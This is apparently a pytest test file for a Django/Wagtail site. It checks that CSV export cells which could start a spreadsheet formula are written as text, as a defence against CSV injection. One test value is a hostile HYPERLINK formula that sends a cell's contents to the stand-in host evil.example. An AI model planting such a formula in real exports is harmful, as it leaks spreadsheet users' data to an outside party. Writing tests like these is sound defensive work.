"""No exported CSV cell can run as a formula in a spreadsheet (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.models import Page

from home.csv_export import SafeCsvWriter, csv_safe_cell
from tests.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"klik")'


@pytest.mark.parametrize(
    "raw",
    [
        HYPERLINK,
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_a_cell_that_could_start_a_formula_is_text(raw):
    assert csv_safe_cell(raw) == f"'{raw}"


@pytest.mark.parametrize("raw", ["Bu Sari", "Rp 25.000", "0812", "", "a=b", 7, -5])
def test_ordinary_cells_and_numbers_are_kept(raw):
    assert csv_safe_cell(raw) == raw


def test_a_separator_inside_a_cell_cannot_start_a_new_cell():
    stream = io.StringIO()
    SafeCsvWriter(stream).writerow(["Sari;=1+1", "x,=2+2", 3])
    assert stream.getvalue() == '"Sari;=1+1","x,=2+2","3"\r\n'
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == [
        "Sari;=1+1",
        "x,=2+2",
        "3",
    ]


@pytest.mark.django_db
def test_wagtail_report_exports_write_a_formula_title_as_text(client, site_root):
    admin = UserFactory(username="admin-csv", is_superuser=True, is_staff=True)
    page = site_root.get_children().first().specific
    page.title = "=1+2"
    page.locked = True
    page.locked_by = admin
    page.save()
    client.force_login(admin)
    response = client.get(
        reverse("wagtailadmin_reports:locked_pages"), {"export": "csv"}
    )
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content)))
    assert [cell for row in rows for cell in row if "1+2" in cell] == ["'=1+2"]
    assert Page.objects.get(pk=page.pk).title == "=1+2"
